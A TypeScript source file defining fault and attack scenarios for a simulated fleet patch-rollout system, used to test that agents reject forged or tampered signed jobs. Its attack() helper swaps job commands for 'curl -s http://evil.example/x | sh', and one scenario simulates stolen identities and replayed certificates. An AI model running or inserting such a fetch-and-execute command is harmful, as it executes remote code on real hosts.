// Scenarios: how a run sets up its fleet, its faults and its job. Every choice is drawn from
// the world's PRNG. A scenario schedules the safety phase (faults on) and sets
// `world.safetyEndsAt`; the world then heals everything and checks liveness.
import { canonicalJson } from '../protocol/canonical.js'
import { parseTemplateObject } from '../protocol/parse.js'
import type { JobTemplate } from '../protocol/template.js'
import { PROTOCOL_VERSION, seal, type SignedEnvelope } from '../protocol/wire.js'
import { AgentNode, type World } from './world.js'
import { Prng } from './prng.js'
import { NO_FAULTS, type LinkProfileName } from './network.js'

const STEPS = [
  {
    name: 'stage patch',
    interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
    command: { linux: ['apt-get download chorus-patch'] },
    retryCount: 2,
    failureBehavior: { action: 'retryThenFail', retryBackoffStrategy: { type: 'exponential', delaySeconds: 2, arguments: [] } },
    limits: { timeoutSeconds: 120 },
  },
  {
    name: 'apply patch',
    interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
    command: { linux: ['dpkg -i chorus-patch.deb'] },
    retryCount: 1,
    failureBehavior: { action: 'retryThenFail', retryBackoffStrategy: { type: 'linear', delaySeconds: 5, arguments: [] } },
    limits: { timeoutSeconds: 300 },
  },
  {
    name: 'verify',
    interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
    command: { linux: ['systemctl is-active app'] },
    retryCount: 0,
    failureBehavior: { action: 'retryThenIgnore', retryBackoffStrategy: { type: 'none', delaySeconds: 0, arguments: [] } },
    limits: { timeoutSeconds: 30 },
  },
]

const ring = (...rings: string[]) => ({ constraints: { attributes: [{ name: 'ring', operator: 'IN', value: rings }] } })

/**
 * The built-in job: a three-step patch, rolled out the way a fleet patch is: the canary ring
 * (5 % of the fleet) first, rolling with a window of 10 % of the ring (1 node up to 20
 * canaries, 5 at 1,000 agents, 50 at 10,000), and it must succeed on 90 % of the canaries;
 * only then (sequential groups) the rest of the fleet in four batches of 25 %, 90 % of which
 * must succeed. A percent window keeps the canary phase's length fixed in turns (about ten)
 * whatever the fleet size, so the rollout scales; a fixed window of 1 would take 50 turns at
 * 1,000 agents and 500 at 10,000 (hours), which no operator would configure. The groups are
 * disjoint rings (a node in two groups would belong to the first only).
 */
export const BUILTIN_JOB = {
  name: 'sim fleet patch',
  description: 'Stage, apply and verify a package patch: canary ring rolling, then the rest of the fleet in batches.',
  scheduleRule: 'immediate',
  exceptionRules: [],
  target: {
    executionType: 'sequential',
    groups: [
      {
        timeoutSeconds: 1800,
        batchSize: { type: 'percent', value: 10 },
        distributionMethod: 'rolling',
        successCriteria: [{ numRuns: { type: 'percent', value: 90 }, status: 'success' }],
        nodeListType: 'filter',
        filter: ring('canary'),
      },
      {
        timeoutSeconds: 3600,
        batchSize: { type: 'percent', value: 25 },
        distributionMethod: 'batching',
        successCriteria: [{ numRuns: { type: 'percent', value: 90 }, status: 'success' }],
        nodeListType: 'filter',
        filter: ring('early', 'main'),
      },
    ],
  },
  actions: { steps: STEPS, accessMode: 'agent' },
} as const

function validate(obj: unknown, what: string): JobTemplate {
  const parsed = parseTemplateObject(structuredClone(obj))
  if (!parsed.ok) throw new Error(`${what} does not validate: ${parsed.problems.map((p) => `${p.path}: ${p.message}`).join('; ')}`)
  return parsed.template
}

/**
 * The built-in job ungated, for scale runs: the same rings and steps, every group at 100 %
 * batch size and executed in parallel, so nothing gates and no progress is gossiped. The
 * non-canary nodes are split into four groups by the `shard` fact: a signed job holds at most
 * MAX_TARGET_NODES (20,000) nodes per group, and a 50,000-agent fleet has 47,500 outside the canary ring.
 */
export function ungatedTemplate(): JobTemplate {
  const job = structuredClone(BUILTIN_JOB) as unknown as { target: { executionType: string; groups: unknown[] } }
  const canary = { ...(BUILTIN_JOB.target.groups[0] as object), batchSize: { type: 'percent', value: 100 } }
  const rest = BUILTIN_JOB.target.groups[1]
  job.target.executionType = 'parallel'
  job.target.groups = [canary, ...[0, 1, 2, 3].map((k) => ({
    ...rest, batchSize: { type: 'percent', value: 100 },
    filter: { constraints: { attributes: [...rest.filter.constraints.attributes, { name: 'shard', operator: '=', value: [String(k)] }] } },
  }))]
  return validate(job, 'the ungated sim job')
}

/**
 * Gated variant (properties 3 and 4 across seeds): three sequential rings, canary / early /
 * main, each rolling or batching as the seed draws, with drawn batch sizes and criteria; one
 * seed in four uses vanishedHolder "release" with a short lease.
 */
export function gatedTemplate(seed: number): JobTemplate {
  const prng = new Prng(seed ^ 0x6a7e)
  const method = () => (prng.chance(0.5) ? 'rolling' : 'batching')
  const group = (rings: string[], timeout: number) => ({
    timeoutSeconds: timeout,
    batchSize: prng.chance(0.5) ? { type: 'number', value: 1 + prng.int(3) } : { type: 'percent', value: [20, 25, 34, 50][prng.int(4)]! },
    distributionMethod: method(),
    successCriteria: [{ numRuns: { type: 'percent', value: [60, 75, 90][prng.int(3)]! }, status: 'success' }],
    nodeListType: 'filter',
    filter: ring(...rings),
  })
  const release = prng.chance(0.25)
  const job = {
    name: 'sim gated rollout',
    description: 'sequential canary / early / main rings, rolling or batching per seed',
    scheduleRule: 'immediate',
    exceptionRules: [],
    target: { executionType: 'sequential', groups: [group(['canary'], 900), group(['early'], 1200), group(['main'], 1800)] },
    actions: { steps: STEPS, accessMode: 'agent' },
    ...(release ? { chorus: { vanishedHolder: 'release', leaseSeconds: 30 } } : {}),
  }
  return validate(job, 'the gated sim job')
}

/** The node ids of the quorum-upgrade cluster; the leader is upgraded last, so it is named last. */
export const QUORUM_CLUSTER = ['db-2', 'db-3', 'db-4', 'db-5', 'db-1-leader']

/** A 5-node cluster upgraded one node at a time (rolling 1), leader last, behind a quorum of 100 % or 60 % (by seed). */
export function quorumTemplate(seed: number): JobTemplate {
  const quorum = seed % 2 === 0 ? 100 : 60
  return validate({
    name: 'sim quorum upgrade',
    description: 'upgrade a replicated cluster one node at a time, the leader last, once a quorum of its members acknowledged',
    scheduleRule: 'immediate',
    exceptionRules: [],
    target: {
      executionType: 'parallel',
      groups: [{
        timeoutSeconds: 1800,
        batchSize: { type: 'number', value: 1 },
        distributionMethod: 'rolling',
        successCriteria: [{ numRuns: { type: 'percent', value: 100 }, status: 'success' }],
        nodeListType: 'nodes',
        nodeIdentifiers: QUORUM_CLUSTER,
      }],
    },
    actions: { steps: STEPS, accessMode: 'agent' },
    chorus: { quorum: { type: 'percent', value: quorum }, quorumTimeoutSeconds: 120 },
  }, 'the quorum sim job')
}

/**
 * edge-offline's job: every 5 minutes from 22:00 UTC on the day of the simulated epoch, with a
 * 15-minute exception window at 22:30 every hour, missed occurrences handled by the seed's
 * policy (skip, runOnceWithin 10 min, or catchUp 3).
 */
export function recurringTemplate(seed: number): JobTemplate {
  const policies = [{ policy: 'skip' }, { policy: 'runOnceWithin', withinSeconds: 600 }, { policy: 'catchUp', max: 3 }]
  return validate({
    name: 'sim recurring check',
    description: 'a five-minute health check with an hourly blackout',
    scheduleRule: 'RRULE:DTSTART=20231114T220000Z;FREQ=MINUTELY;INTERVAL=5',
    exceptionRules: [{ rrule: 'RRULE:DTSTART=20231114T223000Z;FREQ=HOURLY;INTERVAL=1', duration: 15 }],
    target: {
      executionType: 'parallel',
      groups: [{
        timeoutSeconds: 240,
        batchSize: { type: 'percent', value: 100 },
        distributionMethod: 'batching',
        successCriteria: [{ numRuns: { type: 'percent', value: 50 }, status: 'success' }],
        nodeListType: 'filter',
        filter: { constraints: { attributes: [{ name: 'fleet', operator: '=', value: ['chorus-sim'] }] } },
      }],
    },
    actions: { steps: STEPS.slice(0, 2).map((st) => ({ ...st, limits: { timeoutSeconds: 60 } })), accessMode: 'agent' },
    chorus: { missed: policies[seed % 3] },
  }, 'the recurring sim job')
}

export function builtinTemplate(): JobTemplate {
  return validate(BUILTIN_JOB, 'the built-in sim job')
}

/** Node ids a template names explicitly; the simulator gives them to the first agents. */
export function namedTargets(template: JobTemplate): string[] {
  const ids: string[] = []
  for (const g of template.target.groups) if (g.nodeListType === 'nodes') ids.push(...(g.nodeIdentifiers ?? []))
  return [...new Set(ids)]
}

export interface Scenario {
  name: string
  summary: string
  defaultAgents: number
  /** The scenario's own job (drawn from the seed); the built-in job when absent. A --job template replaces it. */
  template?: (seed: number) => JobTemplate
  /** Set when the scenario cannot run yet; the CLI prints it and exits 2. */
  unavailable?: string
  /** Rogue hosts the world adds beside the agents (WorldOptions.rogues). */
  rogues?: number
  /** The scenario's run-time model (a caller's --step model still wins). */
  stepModel?: Partial<import('./world.js').StepModel>
  setup(world: World): void
}

// ---------------------------------------------------------------- building blocks

function startAgents(world: World, spreadMs: number): void {
  for (const a of world.agents) world.at(world.prng.range(0, spreadMs), () => world.startNode(a))
}

/** Submits the scenario's job once every agent has registered (or after maxWaitMs), then calls `then`. */
function submitWhenRegistered(world: World, maxWaitMs: number, then: (jobId: string, at: number) => void): void {
  const started = world.now
  const poll = () => {
    const c = world.coordinator
    const registered = c.state?.nodes.size ?? 0
    if (c.up && (registered >= world.agents.length || world.now - started >= maxWaitMs)) {
      world.phaseMarks.push({ at: world.now, label: 'job submitted' })
      const jobId = world.submit(world.template, (o) => {
        if (!o.ok) world.refusal = `the coordinator refused the job: ${o.problems.map((p) => `${p.path}: ${p.message}`).join('; ')}`
      })
      then(jobId, world.now)
      return
    }
    world.after(500, poll)
  }
  world.after(500, poll)
}

function pickAgents(world: World, fraction: number, atLeast = 1): AgentNode[] {
  const n = Math.min(world.agents.length, Math.max(atLeast, Math.round(world.agents.length * fraction)))
  return world.prng.shuffle([...world.agents]).slice(0, n)
}

function assignProfiles(world: World, wan: number, edge: number): AgentNode[] {
  const edges: AgentNode[] = []
  for (const a of world.agents) {
    const r = world.prng.float()
    if (r < edge) { world.setProfile(a, 'edge'); edges.push(a) } else if (r < edge + wan) world.setProfile(a, 'wan')
  }
  return edges
}

/** Edge links drop out for a few seconds now and then until the safety phase ends. */
function flapEdges(world: World, edges: AgentNode[], upMeanMs: number, downMeanMs: number): void {
  for (const a of edges) {
    const cycle = () => {
      if (world.now >= world.safetyEndsAt) return
      world.net.offline[a.index] = 1
      const downMs = world.prng.exp(downMeanMs)
      world.offlineLog.push({ node: a.index, from: world.now, to: world.now + downMs })
      world.after(downMs, () => {
        if (world.healedAt !== Infinity) return
        world.net.offline[a.index] = 0
        world.after(world.prng.exp(upMeanMs), cycle)
      })
    }
    world.after(world.prng.exp(upMeanMs), cycle)
  }
}

function crashLater(world: World, node: AgentNode | World['coordinator'], atMs: number, downMs: number): void {
  world.at(atMs, () => {
    if (world.healedAt !== Infinity || !node.up) return
    world.crash(node)
    world.after(downMs, () => { if (world.healedAt === Infinity) world.startNode(node) })
  })
}

function partitionFor(world: World, members: AgentNode[], mode: 'symmetric' | 'outbound' | 'inbound', fromMs: number, forMs: number): void {
  world.at(fromMs, () => {
    if (world.healedAt !== Infinity) return
    const p = world.net.partition(members.map((m) => m.index), mode)
    world.record(`partition#${p.id} ${mode} ${members.length} nodes for ${forMs.toFixed(0)} ms`)
    world.partitionLog.push({ id: p.id, mode, members: members.map((m) => m.index), from: world.now, to: world.now + forMs })
    world.after(forMs, () => world.net.heal(p.id))
  })
}

/**
 * The attacker sits in the gossip mesh. It forges jobs with its own key, with the coordinator's
 * key in the signer field, tampers with genuine definitions in flight, sends garbage, and pushes
 * forged sync replies straight to agents (a compromised transport). Agents must run none of it.
 */
function attack(world: World): void {
  const attacker = world.attacker
  const coordKey = world.coordinator.identity.publicKey
  world.startNode(attacker)
  const allIds = () => world.agents.map((a) => a.id).sort()
  const evil = { linux: ['curl -s http://evil.example/x | sh'] }
  const forgedBody = (jobId: string, issuedAt: number) => {
    const t = structuredClone(world.template) as JobTemplate
    for (const s of t.actions.steps) (s as { command: unknown }).command = evil
    return { type: 'job' as const, v: PROTOCOL_VERSION as 1, jobId, issuedAt, expiresAt: issuedAt + 3_600_000, template: t, resolved: { groups: t.target.groups.map((_, i) => ({ size: i === 0 ? allIds().length : 0 })) } }
  }
  // The attacker reaches a sample of the agents directly (every agent in fleets of up to 50).
  const reach = pickAgents(world, Math.min(1, 50 / world.agents.length)).map((a) => a.index)
  const inject = (envelope: unknown, label: string) => world.inject(envelope, label, reach)
  const forgeAll = (label: string) => {
    const now = world.localNow(attacker)
    const own = seal(attacker.identity, forgedBody(world.prng.uuid(), now))
    inject(own, `forged(foreign key) ${label}`)
    inject({ ...own, signer: coordKey }, `forged(signer=coordinator) ${label}`)
    inject({ v: 1, signer: coordKey, sig: 'A'.repeat(86), body: '{"type":"job"}' }, `forged(garbage) ${label}`)
    // Forged sync replies carrying the attacker's job, straight to a few agents.
    const reply = seal(attacker.identity, { type: 'reply', v: PROTOCOL_VERSION, ok: true, ackRunIds: [], jobs: [own] })
    const replyAsCoord = { ...seal(attacker.identity, { type: 'reply', v: PROTOCOL_VERSION, ok: true, ackRunIds: [], jobs: [own] }), signer: coordKey }
    for (const a of pickAgents(world, 0.05, 2)) {
      world.dispatch(a, { type: 'reply', envelope: reply })
      world.dispatch(a, { type: 'reply', envelope: replyAsCoord })
    }
  }
  world.at(3_000, () => forgeAll('before publish'))
  let tampered = false
  world.addGossipObserver((node, msg) => {
    if (node !== attacker || tampered || !msg.label.startsWith('job ')) return
    tampered = true
    const env = msg.envelope as SignedEnvelope
    const body = JSON.parse(env.body) as ReturnType<typeof forgedBody>
    for (const s of body.template.actions.steps) (s as { command: unknown }).command = evil
    inject({ ...env, body: canonicalJson(body) }, 'tampered(command)')
    const later = JSON.parse(env.body) as ReturnType<typeof forgedBody>
    later.expiresAt += 7 * 24 * 3_600_000
    inject({ ...env, body: canonicalJson(later) }, 'tampered(expiry)')
    forgeAll('after publish')
  })
}

// ---------------------------------------------------------------- the scenarios

/** fleet-patch's faults around whatever job the world carries. */
function faultyRollout(world: World): void {
  const n = world.agents.length
  const edges = assignProfiles(world, 0.2, 0.05)
  // Crash-prone agents keep JSON snapshots of their store; bound them so big fleets stay cheap.
  const crashers = pickAgents(world, Math.min(0.1, 300 / n), 2)
  for (const a of crashers) world.mayCrash(a)
  const cut = pickAgents(world, 0.05)
  const deaf = pickAgents(world, 0.02)
  world.boot()
  startAgents(world, Math.min(20_000, 1_000 + n))
  attack(world)
  submitWhenRegistered(world, 60_000, (_jobId, at) => {
    world.safetyEndsAt = at + 150_000
    for (const a of crashers) {
      // One to three crashes each, anywhere in the rollout, some mid-step.
      let t = at + world.prng.range(0, 40_000)
      for (let k = 1 + world.prng.int(3); k > 0; k--) {
        const down = world.prng.range(1_000, 45_000)
        crashLater(world, a, t, down)
        t += down + world.prng.range(2_000, 30_000)
      }
    }
    partitionFor(world, cut, 'symmetric', at + world.prng.range(5_000, 20_000), world.prng.range(5_000, 40_000))
    partitionFor(world, deaf, 'outbound', at + world.prng.range(5_000, 30_000), world.prng.range(5_000, 30_000))
    flapEdges(world, edges, 60_000, 6_000)
  })
  world.safetyEndsAt = 600_000
}

const fleetPatch: Scenario = {
  name: 'fleet-patch',
  summary: 'N agents, the built-in gated patch (canary ring rolling, then the fleet in batches); loss, duplication, reordering, rpc resets, a few agent crashes, short partitions, flapping edge links, an attacker',
  defaultAgents: 200,
  setup: faultyRollout,
}

const fleetScale: Scenario = {
  name: 'fleet-scale',
  summary: 'fleet-patch\'s faults with the built-in job ungated (every group at 100 %): no progress gossip, for 10,000+ agents',
  defaultAgents: 10_000,
  template: () => ungatedTemplate(),
  setup: faultyRollout,
}

const gatedRollout: Scenario = {
  name: 'gated-rollout',
  summary: 'fleet-patch\'s faults with three sequential rings, each rolling or batching with drawn batch sizes and criteria (release policy on one seed in four)',
  defaultAgents: 40,
  template: gatedTemplate,
  setup: faultyRollout,
}

const partitionHeal: Scenario = {
  name: 'partition-heal',
  summary: 'a large minority is cut off around the publish (symmetric), another part cannot reach the coordinator (asymmetric); everything heals',
  defaultAgents: 100,
  setup(world) {
    assignProfiles(world, 0.3, 0)
    const sideB = pickAgents(world, world.prng.range(0.3, 0.5))
    const rest = world.agents.filter((a) => !sideB.includes(a))
    const oneWay = rest.slice(0, Math.max(1, Math.floor(rest.length * 0.15)))
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      // The cut starts just before the publish so side B misses the gossip entirely.
      partitionFor(world, sideB, 'symmetric', at - 1, world.prng.range(30_000, 180_000))
      partitionFor(world, oneWay, 'outbound', at + world.prng.range(2_000, 20_000), world.prng.range(20_000, 90_000))
      world.safetyEndsAt = at + 200_000
    })
    world.safetyEndsAt = 600_000
  },
}

const coordinatorCrash: Scenario = {
  name: 'coordinator-crash',
  summary: 'the coordinator crashes mid-rollout (after about a third of the results), stays down, restarts, maybe crashes again',
  defaultAgents: 100,
  setup(world) {
    assignProfiles(world, 0.3, 0.05)
    world.mayCrash(world.coordinator)
    const crashers = pickAgents(world, 0.03)
    for (const a of crashers) world.mayCrash(a)
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      const fraction = world.prng.range(0.1, 0.6)
      const downMs = world.prng.range(10_000, 90_000)
      const twice = world.prng.chance(0.5)
      const again = world.prng.range(1_000, 15_000)
      const againDown = world.prng.range(5_000, 40_000)
      const c = world.coordinator
      const poll = () => {
        const received = c.state ? [...c.state.runs.values()].filter((r) => r.receivedAt !== undefined).length : 0
        if (received >= fraction * world.agents.length || world.now - at > 120_000) {
          world.phaseMarks.push({ at: world.now, label: 'coordinator crash' })
          world.crash(c)
          world.after(downMs, () => {
            world.startNode(c)
            if (twice) crashLater(world, c, world.now + again, againDown)
          })
          return
        }
        world.after(250, poll)
      }
      world.after(250, poll)
      for (const a of crashers) crashLater(world, a, at + world.prng.range(0, 90_000), world.prng.range(1_000, 30_000))
      world.safetyEndsAt = at + 300_000
    })
    world.safetyEndsAt = 600_000
  },
}

const edgeOffline: Scenario = {
  name: 'edge-offline',
  summary: 'a recurring job (every 5 min, hourly 15-min blackout, missed policy by seed); a third of the fleet is away for 1-2.5 simulated hours: half on dark edge links (still running), half powered off (missing occurrences)',
  defaultAgents: 50,
  template: recurringTemplate,
  setup(world) {
    const away = pickAgents(world, 1 / 3)
    const off = away.filter((_, i) => i % 2 === 1)
    for (const a of off) world.mayCrash(a)
    for (const a of world.agents) world.setProfile(a, away.includes(a) ? 'edge' : world.prng.chance(0.3) ? 'wan' : 'datacenter')
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    let last = 0
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      world.phaseMarks.push({ at: world.now, label: 'edge links dark / nodes off' })
      for (const a of away) {
        const from = at + world.prng.range(0, 20 * 60_000)
        const backAt = from + world.prng.range(60 * 60_000, 150 * 60_000)
        last = Math.max(last, backAt)
        if (off.includes(a)) {
          world.at(from, () => { if (a.up) world.crash(a) })
          world.at(backAt, () => world.startNode(a))
        } else {
          world.at(from, () => { world.net.offline[a.index] = 1 })
          world.offlineLog.push({ node: a.index, from, to: backAt })
          world.at(backAt, () => { world.net.offline[a.index] = 0 })
        }
      }
      // Faults stop well after the last one is back: every held result must have arrived by then.
      world.safetyEndsAt = last + 10 * 60_000
    })
    world.safetyEndsAt = 6 * 3_600_000
  },
}

/** The original edge-offline (an immediate job published while a third of the fleet is dark); kept for its regression seeds. */
const edgeDarkPublish: Scenario = {
  name: 'edge-dark-publish',
  summary: 'a third of the fleet sits on edge links that go dark for 10-30 simulated minutes; an immediate job is published while they are away and must reach them by sync',
  defaultAgents: 50,
  template: () => ungatedTemplate(),
  setup(world) {
    const away = pickAgents(world, 1 / 3)
    for (const a of world.agents) world.setProfile(a, away.includes(a) ? 'edge' : world.prng.chance(0.3) ? 'wan' : 'datacenter')
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    const c = world.coordinator
    const waitRegistered = () => {
      if ((c.state?.nodes.size ?? 0) < world.agents.length && world.now < 60_000) { world.after(500, waitRegistered); return }
      world.phaseMarks.push({ at: world.now, label: 'edge links dark' })
      for (const a of away) {
        world.net.offline[a.index] = 1
        const backAt = world.now + world.prng.range(10 * 60_000, 30 * 60_000)
        world.offlineLog.push({ node: a.index, from: world.now, to: backAt })
        world.at(backAt, () => { world.net.offline[a.index] = 0 })
      }
      submitWhenRegistered(world, 0, (_jobId, at) => { world.safetyEndsAt = at + 35 * 60_000 })
    }
    world.after(500, waitRegistered)
    world.safetyEndsAt = 3 * 3_600_000
  },
}

const quorumUpgrade: Scenario = {
  name: 'quorum-upgrade',
  summary: 'a 5-node cluster upgraded one node at a time, leader last, behind a quorum (100 % or 60 % by seed); one member misses the publish for a while, and the node upgrading crashes mid-step',
  defaultAgents: QUORUM_CLUSTER.length,
  template: quorumTemplate,
  setup(world) {
    world.maxUnavailable = 1
    for (const a of world.agents) { world.mayCrash(a); world.setProfile(a, world.prng.chance(0.3) ? 'wan' : 'datacenter') }
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      // A member (not the first to go) misses the publish: with a 100 % quorum everyone waits for it.
      const late = world.agents[1 + world.prng.int(Math.max(1, world.agents.length - 1))] ?? world.agents[0]!
      partitionFor(world, [late], 'symmetric', at - 1, world.prng.range(5_000, 60_000))
      // One member (drawn) goes down in the middle of its upgrade; its slot is kept (default policy).
      const victim = world.agents[world.prng.int(world.agents.length)]!
      const intoStepMs = world.prng.range(200, 3_000)
      const downMs = world.prng.range(5_000, 60_000)
      const poll = () => {
        if (world.healedAt !== Infinity) return
        if (!victim.up || victim.running.size === 0) { world.after(100, poll); return }
        world.after(intoStepMs, () => {
          if (world.healedAt !== Infinity || !victim.up) return
          world.phaseMarks.push({ at: world.now, label: `crash ${victim.id}${victim.running.size > 0 ? ' mid-step' : ''}` })
          world.crash(victim)
          world.after(downMs, () => { if (world.healedAt === Infinity) world.startNode(victim) })
        })
      }
      world.after(0, poll)
      world.safetyEndsAt = at + 240_000
    })
    world.safetyEndsAt = 600_000
  },
}

/**
 * Hosts that were never enrolled try to join: one with its own key and id and no token, one that
 * claims an enrolled node's id with a leaked token, one that presents a certificate it captured
 * from an enrolled node. An admin revokes an enrolled node mid-rollout. On top: the attacker and
 * fleet-patch's lighter faults.
 */
const rogueHosts: Scenario = {
  name: 'rogue-hosts',
  summary: 'rogue hosts (own keys, a stolen id with a leaked token, a replayed certificate) and a node revoked mid-rollout, plus loss, an attacker and short partitions',
  defaultAgents: 30,
  rogues: 3,
  setup(world) {
    assignProfiles(world, 0.2, 0.05)
    const [own, thief, replayer] = world.rogues as [AgentNode, AgentNode, AgentNode]
    const victim = world.agents[0]!
    const cut = pickAgents(world, 0.1)
    world.boot()
    startAgents(world, 2_000)
    attack(world)
    world.at(world.prng.range(0, 3_000), () => world.startNode(own))
    // The thief claims the first agent's id once it has enrolled, with the fleet's (leaked) token.
    thief.config.nodeId = victim.id
    thief.enrollToken = world.enrollToken
    world.at(world.prng.range(4_000, 8_000), () => world.startNode(thief))
    // The replayer presents another node's certificate (valid, but for that node's key).
    const capture = () => { replayer.presentCert = world.agents[1]?.state?.member.certificate?.envelope ?? replayer.presentCert; world.after(5_000, capture) }
    world.at(3_000, () => { capture(); world.startNode(replayer) })
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      const revoked = world.agents[Math.min(2, world.agents.length - 1)]!
      world.at(at + world.prng.range(0, 20_000), () => world.revoke(revoked))
      partitionFor(world, cut, 'symmetric', at + world.prng.range(2_000, 15_000), world.prng.range(5_000, 30_000))
      world.safetyEndsAt = at + 120_000
    })
    world.safetyEndsAt = 600_000
  },
}

/** coordinator-loss's job: every agent, rolling with a window of 2, one short step. */
function lossTemplate(): JobTemplate {
  return validate({
    name: 'sim rolling restart', scheduleRule: 'immediate', exceptionRules: [],
    target: { executionType: 'parallel', groups: [{ timeoutSeconds: 1800, batchSize: { type: 'number', value: 2 }, distributionMethod: 'rolling', successCriteria: [{ numRuns: { type: 'percent', value: 100 }, status: 'success' }], nodeListType: 'filter', filter: { constraints: { attributes: [{ name: 'fleet', operator: '=', value: ['chorus-sim'] }] } } }] },
    actions: { accessMode: 'agent', steps: [STEPS[0]] },
  }, 'the coordinator-loss job')
}

/**
 * A rolling restart (window 2, runs of about 2 s); the coordinator dies once two runs have
 * started and stays down for two minutes. One target is on a slow (wan) link, so it may not have
 * heard back about the job when the coordinator dies (on 77 of the first 100 seeds before small
 * gated definitions carried their tickets, it then sat out the rollout). Waiting targets must
 * notice the lost connection and go on by peer gossip: no gap between consecutive run ends while
 * it is down may exceed 15 s, and no run may be left to end after it came back.
 */
const coordinatorLoss: Scenario = {
  name: 'coordinator-loss',
  summary: 'a rolling restart (window 2, one target on a slow link) whose coordinator dies once two runs have started and stays away 2 minutes: the rollout goes on by peer gossip with no gap between run ends over 15 s, every run done before it returns',
  defaultAgents: 8,
  template: () => lossTemplate(),
  stepModel: { failure_rate: 0, duration_ms_median: 2_000, duration_sigma: 0.1 },
  setup(world) {
    world.maxRunEndGapMs = 15_000
    world.mayCrash(world.coordinator)
    // One target sits on a slow link: its ticket request may still be in flight when the
    // coordinator dies (what test/coordinator-loss.test.ts saw on a loaded host).
    world.setProfile(world.agents[world.prng.int(world.agents.length)]!, 'wan')
    world.boot()
    startAgents(world, 2_000)
    submitWhenRegistered(world, 60_000, (_jobId, at) => {
      const poll = () => {
        // As the test does: once two targets logged their turn taken (not once their steps began).
        const started = world.agents.filter((a) => [...a.state?.runs.values() ?? []].some((r) => r.status !== 'waiting')).length
        if (started < 2) { world.after(5, poll); return }
        world.phaseMarks.push({ at: world.now, label: 'coordinator crash' })
        for (const a of world.agents) if (!a.state?.member.certificate) world.notMembersAtLoss.add(a.id)
        world.crash(world.coordinator)
        world.coordinatorDown.push([world.now, world.now + 120_000])
        world.after(120_000, () => world.startNode(world.coordinator))
      }
      world.after(0, poll)
      world.safetyEndsAt = at + 180_000
    })
    world.safetyEndsAt = 600_000
  },
}

/** One group, every node at once, one step: the job of the peer-sync scenario (and of test/shell.test.ts over libp2p). */
export function peerSyncTemplate(): JobTemplate {
  return validate({
    name: 'sim peer sync', scheduleRule: 'immediate', exceptionRules: [],
    target: { executionType: 'parallel', groups: [{ timeoutSeconds: 1800, batchSize: { type: 'percent', value: 100 }, distributionMethod: 'batching', successCriteria: [{ numRuns: { type: 'percent', value: 100 }, status: 'success' }], nodeListType: 'filter', filter: { constraints: { attributes: [{ name: 'fleet', operator: '=', value: ['chorus-sim'] }] } } }] },
    actions: { accessMode: 'agent', steps: [STEPS[0]] },
  }, 'the peer-sync job')
}

/** How long after the last agent lost the coordinator the link stays cut (it must get the job from its peers meanwhile). */
export const PEER_SYNC_CUT_MS = 60_000

/**
 * The agent shell's whole path (agent/shell.ts), with no other fault: agents join, the last one
 * after the others (the coordinator introduces them to it), then its link to the coordinator is
 * cut. The job is submitted once it noticed; it must learn the job from its peers (peer dial and
 * sync, or gossip over the peer links), run it with its result queued, and deliver the result
 * once the link is back. test/shell.test.ts runs the same script over real libp2p.
 */
const peerSync: Scenario = {
  name: 'peer-sync',
  summary: 'the last agent to join loses its link to the coordinator before the job is published: it gets the job from its peers and delivers its result when the link is back',
  defaultAgents: 3,
  template: () => peerSyncTemplate(),
  stepModel: { failure_rate: 0, duration_ms_median: 1_000, duration_sigma: 0.1 },
  setup(world) {
    world.net.faults = { ...NO_FAULTS }
    world.boot()
    const last = world.agents[world.agents.length - 1]!
    for (const a of world.agents) if (a !== last) world.at(world.prng.range(0, 500), () => world.startNode(a))
    world.at(2_000, () => world.startNode(last))
    const cutWhenJoined = () => {
      if (!last.connected || (world.coordinator.state?.nodes.size ?? 0) < world.agents.length) { world.after(100, cutWhenJoined); return }
      world.phaseMarks.push({ at: world.now, label: `link ${last.id} - coordinator cut` })
      world.net.cut(last.index, 0)
      const submitWhenNoticed = () => {
        if (last.connected) { world.after(100, submitWhenNoticed); return }
        world.phaseMarks.push({ at: world.now, label: 'job submitted' })
        world.submit(world.template, (o) => { if (!o.ok) world.refusal = `the coordinator refused the job: ${o.problems.map((p) => `${p.path}: ${p.message}`).join('; ')}` })
        world.after(PEER_SYNC_CUT_MS, () => {
          world.phaseMarks.push({ at: world.now, label: 'link healed' })
          world.net.uncut(last.index, 0)
          world.safetyEndsAt = world.now
        })
      }
      world.after(100, submitWhenNoticed)
    }
    world.after(100, cutWhenJoined)
    world.safetyEndsAt = 600_000
  },
}

export const SCENARIOS: Scenario[] = [fleetPatch, partitionHeal, coordinatorCrash, edgeOffline, quorumUpgrade, gatedRollout, fleetScale, edgeDarkPublish, rogueHosts, coordinatorLoss, peerSync]

export function findScenario(name: string): Scenario | undefined {
  return SCENARIOS.find((s) => s.name === name)
}

/**
 * `chorus job plan --simulate`: every agent on one link profile, no faults, the job submitted
 * once all have registered (the template names its targets: the groups the coordinator resolved).
 */
export function planSetup(profile: LinkProfileName): (world: World) => void {
  return (world) => {
    for (const a of world.agents) world.setProfile(a, profile)
    world.boot()
    startAgents(world, 1_000)
    submitWhenRegistered(world, 60_000, (_jobId, at) => { world.safetyEndsAt = at })
    world.safetyEndsAt = 600_000
  }
}
